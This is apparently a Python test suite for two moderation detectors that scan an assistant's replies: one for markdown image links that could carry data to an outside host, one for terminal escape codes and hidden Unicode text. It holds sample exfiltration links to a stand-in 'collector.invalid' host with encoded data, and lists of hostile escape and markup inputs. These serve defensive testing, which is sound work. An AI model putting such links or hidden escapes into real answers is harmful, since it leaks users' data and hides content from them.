"""The two rails of our own: links that carry data out, and what takes over a terminal or hides."""

import json
import shutil
import time
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from detectors.errors import Error
from detectors.finding import Finding, Kind, Role, Segment
from detectors.fingerprint import Fingerprinter
from detectors.moderation import check, load
from detectors.moderation.exfil import Exfil, encoded
from detectors.moderation.markdown import code_spans
from detectors.moderation.terminal import Terminal

SHIPPED = Path(__file__).parents[3] / "rules" / "moderation"
RULES = load(SHIPPED)
FINGERPRINTER = Fingerprinter(bytes(range(32)))
EXFIL = Exfil(RULES.exfil, FINGERPRINTER)
TERMINAL = Terminal(RULES.terminal, FINGERPRINTER)
DATA = "SGVsbG8gV29ybGQhIFRoaXM"


def found(rail: Exfil | Terminal, text: str, kind: Kind = Kind.PROSE) -> list[Finding]:
    return list(rail.look(Segment("answer", Role.ASSISTANT, kind, text)))


def without(text: str, findings: list[Finding], words: str) -> str:
    for finding in sorted(findings, key=lambda each: each.start, reverse=True):
        text = text[: finding.start] + words + text[finding.end :]
    return text


def test_shipped_examples_hold():
    count, errors = check(SHIPPED)
    assert count > 40
    assert errors == ()


def test_example_that_does_not_hold_is_named_without_its_text(tmp_path):
    folder = shutil.copytree(SHIPPED, tmp_path / "moderation")
    wrong = '- {rail: exfil, expect: match, text: "a harmless jane.doe sentence"}\n'
    (folder / "examples.yaml").write_text((folder / "examples.yaml").read_text() + wrong)
    _, errors = check(folder)
    assert len(errors) == 1
    assert "exfil finds nothing" in str(errors[0])
    assert "jane" not in errors[0].diagnostics()


def test_rail_without_a_clean_example_is_named(tmp_path):
    folder = shutil.copytree(SHIPPED, tmp_path / "moderation")
    kept = [
        line for line in (folder / "examples.yaml").read_text().splitlines() if "terminal, expect: clean" not in line
    ]
    (folder / "examples.yaml").write_text("\n".join(kept))
    assert [str(error) for error in check(folder)[1]] == [f"{folder}/examples.yaml: no `clean` for terminal"]


@pytest.mark.parametrize(
    ("file", "before", "after", "named"),
    [
        ("exfil.yaml", "encoded_length: 16", "encoded_length: 16\nsurprise: 1", "surprise"),
        ("exfil.yaml", "- picsum.photos", "- Picsum Photos", "image_hosts"),
        ("terminal.yaml", "hidden_run: 3", "hidden_run: 0", "hidden_run"),
        ("rails.yaml", "models: []", "models: [{type: main, engine: openai, model: x}]", "models"),
        ("rails.yaml", "stream_first: false", "stream_first: true", "stream_first"),
        ("rails.yaml", "- lockgate terminal", "- lockgate exfil", "flows"),
        ("exfil.yaml", "scores: {", "scores: {{", "YAML"),
    ],
)
def test_wrong_data_is_refused_at_start(tmp_path, file, before, after, named):
    folder = shutil.copytree(SHIPPED, tmp_path / "moderation")
    text = (folder / file).read_text()
    assert before in text
    (folder / file).write_text(text.replace(before, after))
    with pytest.raises(Error, match=named) as caught:
        load(folder)
    assert file in str(caught.value)


def test_span_of_a_link_is_its_address_alone():
    text = "naïve ![a](https://collector.invalid/p.png?d=1 'title') and <https://collector.invalid/?d=" + DATA + ">."
    spans = [text[each.start : each.end] for each in found(EXFIL, text)]
    assert spans == ["https://collector.invalid/p.png?d=1", f"https://collector.invalid/?d={DATA}"]


def test_definition_of_an_image_is_found_before_and_after_its_use():
    definition, use = "[pic]: https://collector.invalid/x", "![alt][Pic]"
    for text in (f"{definition}\n\n{use}", f"{use}\n\n{definition}", f"> {use}\n\n- {definition}"):
        assert [text[each.start : each.end] for each in found(EXFIL, text)] == ["https://collector.invalid/x"]


def test_definition_that_only_links_use_is_no_image():
    assert found(EXFIL, "![logo](relative.png) [text][pic]\n\n[pic]: https://collector.invalid/x") == []


@pytest.mark.parametrize(
    "host", ["evil.upload.wikimedia.org", "upload.wikimedia.org.invalid", "upload.wikimedia.org@x.invalid"]
)
def test_host_that_only_looks_listed_is_unknown(host):
    assert found(EXFIL, f"![x](https://{host}/a.png)")


@pytest.mark.parametrize(
    "host", ["upload.wikimedia.org", "UPLOAD.wikimedia.org.", "upload.wikimedia.org:443", "user@picsum.photos"]
)
def test_listed_host_is_known_however_it_is_written(host):
    assert found(EXFIL, f"![x](https://{host}/a.png)") == []


@pytest.mark.parametrize(
    "image",
    ["![x](HTTPS://c.invalid/a)", "![x](//c.invalid/a)", "![x](https:\\\\c.invalid/a)", "![x](\\/\\/c.invalid)"],
)
def test_disguised_address_of_an_image_is_found(image):
    assert found(EXFIL, image)


def test_image_in_a_closed_block_of_code_scores_low():
    image = "![x](https://collector.invalid/x)"
    assert [each.score for each in found(EXFIL, f"```md\n{image}\n```\n\n{image}")] == [0.4, 0.9]
    assert [each.score for each in found(EXFIL, image, Kind.CODE)] == [0.4]


@pytest.mark.parametrize(
    "before",
    [
        "```\n",  # the end of a block that began before this window
        "```md\n",  # never closed
        "- item\n  ```md\n",  # ends with its list
        "<div>\n```md\n",  # no fence inside HTML
        "<!-- \n\n```md\n",
        "~~~\n```md\n~~~\n",
        "````\n```md\n````\n",
        "```md\n```\n",
    ],
)
def test_what_only_looks_like_code_scores_high(before):
    text = f"{before}![x](https://collector.invalid/x)\n"
    assert [each.score for each in found(EXFIL, text)] == [0.9]
    after = "" if before == "```md\n" else "```\n"
    assert [each.score for each in found(EXFIL, text + after)] == [0.9]


@given(st.lists(st.sampled_from(["```py\n", "```\n", "~~~\n", "````\n", "x\n", "  ```\n", "<p>\n", "\n"]), max_size=14))
def test_cutting_a_text_never_makes_code_of_what_was_none(lines):
    text = "".join(lines)
    whole = code_spans(text)
    offset = 0
    for line in lines:
        offset += len(line)
        for start, end in code_spans(text[offset:]):
            inside = any(a <= start + offset and end + offset <= b for a, b in whole)
            assert inside or "<" in text[:offset] or "~~~" in text[:offset] or "````" in text[:offset]


@pytest.mark.parametrize(
    ("part", "expected"),
    [
        ("48656c6c6f20576f726c6421", True),
        ("0123456789012345", True),
        (DATA, True),
        ("JBSWY3DPEBLW64TMMQQQ", True),
        ("550e8400-e29b-41d4-a716-446655440000", True),
        ("%48%65%6c%6c%6f%21", True),
        ("%FF%FE%00%01%02%03", True),
        (DATA[:15], False),
        ("asyncio-subprocess-and-more", False),
        ("how+to+sort+a+list+in+python", False),
        ("gpt-4o-mini-2024-07-18", False),
        ("Comparison_of_programming_languages", False),
        ("%E6%9D%B1%E4%BA%AC%E9%83%BD", False),
        ("2024-11-24", False),
    ],
)
def test_encoded_data_is_told_from_words(part, expected):
    assert encoded(part, 16) is expected


TEXTS = st.lists(
    st.sampled_from(
        [
            *("![", "[", "]", "(", ")", "](", "]: ", "<img\tsrc=", '"', "'", ">", "\n", "\n\n", "\\", " ", "a", "é"),
            *("https://c.invalid/", "//c.invalid", "url(", "```md\n", "srcset=", "&#104;", "1x,", DATA),
        ]
    ),
    max_size=30,
)


@given(TEXTS.map("".join))
@settings(max_examples=300, deadline=None)
@example("![a][b]\n[b]: https://c.invalid/")
def test_text_without_its_links_holds_none(text):
    findings = found(EXFIL, text)
    assert all(0 <= each.start < each.end <= len(text) for each in findings)
    left = without(text, merged(findings), "[link removed]")
    assert found(EXFIL, left) == []


def merged(findings: list[Finding]) -> list[Finding]:
    kept: list[Finding] = []
    for each in sorted(findings, key=lambda one: (one.start, -one.end)):
        if not kept or each.start >= kept[-1].end:
            kept.append(each)
    return kept


INVISIBLE = st.sampled_from(
    [
        *(
            "\x1b",
            "[",
            "31",
            "m",
            "]",
            "8;;",
            "\x07",
            "\x1b\\",
            "\x9b",
            "\x00",
            "\r",
            "\n",
            " ",
            "a",
            "ש",
            "😀",
            "\\",
            "u001b",
        ),
        *("\u200b", "\u200d", "\u202e", "\u2066", "\u2069", "\ufe0f", "\U000e0041", "\U000e0101"),
    ]
)


@given(st.lists(INVISIBLE, max_size=30).map("".join), st.sampled_from([Kind.PROSE, Kind.CODE]))
@settings(max_examples=300, deadline=None)
def test_text_without_its_escapes_holds_none(text, kind):
    findings = found(TERMINAL, text, kind)
    assert all(one.end <= other.start for one, other in pairwise(findings))
    left = without(text, findings, "")
    assert [each.entity for each in found(TERMINAL, left, kind) if each.entity == "TERMINAL_ESCAPE"] == []


@given(st.text(st.sampled_from('\x1b\\"\x00a\u202e\b\n[é'), max_size=20), st.booleans())
@settings(max_examples=200, deadline=None)
def test_escapes_written_as_json_are_found_and_their_text_is_not(text, plain):
    written = json.dumps(text, ensure_ascii=plain)
    dangerous = any(char in text for char in "\x1b\x00\b") or "\u202e" in text
    assert bool(found(TERMINAL, written, Kind.JSON)) is dangerous
    assert found(TERMINAL, json.dumps(written), Kind.JSON) == [] or not plain


def test_kinds_of_hidden_text_have_names_of_their_own():
    text = "\x1b[1m \u202ex\u202c hi\U000e0041 a\u200b\u200b\u200b"
    assert [(each.entity, each.rule) for each in found(TERMINAL, text)] == [
        ("TERMINAL_ESCAPE", "terminal.control"),
        ("HIDDEN_TEXT", "terminal.bidi"),
        ("HIDDEN_TEXT", "terminal.bidi"),
        ("HIDDEN_TEXT", "terminal.tags"),
        ("HIDDEN_TEXT", "terminal.hidden"),
    ]


HOSTILE = (
    *(
        "![",
        "[",
        "](",
        "![a](",
        "![a][b]",
        "[b]:",
        "[a]:<a",
        "](<a",
        "<img\tsrc=",
        "<img\tsrc='",
        '<img\tsrc="',
        "src=",
    ),
    *(
        "url(",
        "<",
        "https://",
        "\\",
        "&",
        "```md\n",
        "~~~\n",
        "```a",
        "`",
        "<a href=x ",
        " https://c.invalid/?a=" + DATA,
    ),
    *("\x1b]", "\x1b[", "\x9d", "\x9b", "\r", "\u202a", "\u200b", "\\u001b"),
)


@pytest.mark.parametrize("unit", HOSTILE)
@pytest.mark.parametrize("before", ["", "![", "<b>", "](", "\x9d"])
def test_time_grows_with_the_length_of_hostile_text(before, unit):
    text = before + (unit * 40_000)[:40_000]
    assert seconds(text + "\n") < 1.5


RUNS = {
    "nested": "![" + "[" * 30_000 + "]" * 30_000,
    "spaces": "](" + " " * 60_000 + "<",
    "returns": "\r" * 60_000 + "\n",
    "tabs": "![a]:" + "\t" * 60_000,
    "backslashes": "\\" * 60_001,
}


@pytest.mark.parametrize("text", RUNS.values(), ids=RUNS)
def test_time_grows_with_the_length_of_one_long_run(text):
    assert seconds(text) < 1.5


def seconds(text: str) -> float:
    started = time.process_time()
    found(EXFIL, text)
    found(TERMINAL, text)
    found(TERMINAL, text, Kind.JSON)
    return time.process_time() - started
